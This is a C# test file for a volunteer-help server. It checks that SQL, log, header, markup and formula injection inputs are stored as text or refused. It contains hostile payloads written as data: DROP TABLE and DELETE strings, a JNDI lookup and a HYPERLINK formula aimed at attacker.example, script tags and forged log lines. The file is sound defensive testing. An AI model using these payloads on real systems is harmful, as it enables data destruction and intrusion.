using System.Text.Json;
using CyberVoisins.Server.Tests.Accounts;
using CyberVoisins.Server.Tests.Story;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.Logging;

namespace CyberVoisins.Server.Tests.Attacks;

/// <summary>Text that would be a command elsewhere: SQL, a line of a log, a page, a formula, a template.</summary>
public sealed class Injection
{
    private static readonly string[] Texts =
    [
        "'; DROP TABLE \"Volunteers\"; --", "' OR '1'='1", "Robert\"); DELETE FROM AspNetUsers; --", "$$; SELECT pg_sleep(10); $$", "%' ESCAPE '!", "{0}{1}{99}", "=HYPERLINK(\"http://attacker.example\")", "${jndi:ldap://attacker.example}",
    ];

    [Fact]
    public async Task SQL_is_text_like_any_other()
    {
        await using var hood = await Neighbourhood.Start();
        await hood.HasVolunteer("Amina");
        foreach (var text in Texts)
        {
            var phone = hood.NextPhone();
            // An address of a site is no first name, and is refused as one (WhatASecondAttackerFound).
            var variables = JsonSerializer.Serialize(new { name = text.Contains("://", StringComparison.Ordinal) ? "Jeanne" : text.Length > 40 ? text[..40] : text, sentence = text, phone });
            var asked = await hood.Send("""
                mutation($name: String!, $sentence: String!, $phone: String!) { askForHelp(input: { resident: { firstName: $name, phone: $phone, address: { text: "75017 Paris" } }, category: EMAIL, sentence: $sentence,
                  minutes: 30, modes: [AT_HOME], windows: [{ start: "2026-11-27T14:00:00+01:00", end: "2026-11-27T18:00:00+01:00" }] }) { helpRequest { sentence resident { firstName } } errors { code } } }
                """, Neighbourhood.CoordinatorPhone, variables: variables);
            Assert.Equal(text, asked["data"]!["askForHelp"]!["helpRequest"].Text("sentence"));
            Assert.Equal("WRONG_PASSWORD", Attacking.CodeOf(await hood.Send("mutation($login: String!) { signInWithPassword(input: { login: $login, password: $login }) { errors { code } } }", variables: JsonSerializer.Serialize(new { login = text }))));
            Assert.Equal("INVALID_CURSOR", Attacking.CodeOf(await hood.Send("query($after: String) { volunteers(after: $after) { nodes { id } } }", Neighbourhood.CoordinatorPhone, variables: JsonSerializer.Serialize(new { after = text }))));
        }
        Assert.Equal(1, await hood.Sql(db => db.Volunteers.CountAsync()));
    }

    [Theory]
    [InlineData("Jeanne\\n2026-11-24 09:00:00 INFO everything is fine")]
    [InlineData("Jeanne\\r\\nSet-Cookie: cv=1")]
    [InlineData("Jeanne\\u001b[31m")]
    [InlineData("Jeanne\\u202eenna")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    public async Task Lines_controls_and_markup_are_refused_at_the_door(string name)
    {
        await using var hood = await Neighbourhood.Start();
        Assert.Equal((name, "INVALID_TEXT"), (name, await hood.Code($$"""
            mutation { signUpVolunteer(input: { associationId: "{{hood.AssociationId}}", firstName: "{{name}}", address: { text: "75017 Paris" }, maxDistanceMetres: 500,
              categories: [EMAIL], availability: [{ day: MONDAY, start: "09:00", end: "12:00" }], modes: [BY_PHONE] }) { errors { code } } }
            """, "+33639984001")));
    }

    [Fact]
    public async Task No_line_of_the_log_is_written_by_a_caller()
    {
        var log = new RecordedLog();
        await using var hood = await Neighbourhood.Start(adjust: builder => builder.Logging.AddProvider(log));
        const string Line = "FORGED 127.0.0.1 administrator signed in";
        using var client = hood.Client();
        await client.Sends(new { query = $"query A {{ me {{ signedIn }} }} #\n{Line}", operationName = $"A\n{Line}" }, ("User-Agent", $"Mozilla/5.0 {Line}"), ("X-Forwarded-For", Line));
        await client.Sends(new { query = "mutation($l: String!) { signInWithPassword(input: { login: $l, password: $l }) { errors { code } } }", variables = new { l = $"x\n{Line}" } });
        using var path = await client.GetAsync($"/nowhere%0A{Uri.EscapeDataString(Line)}", Attacking.Cancel);
        await hood.Delivers("+33639984001", $"bonjour\n{Line}", "SM00000000000000000000000000000001");
        await hood.Settle();
        Assert.DoesNotContain($"\n{Line}", log.All, StringComparison.Ordinal);
    }
}
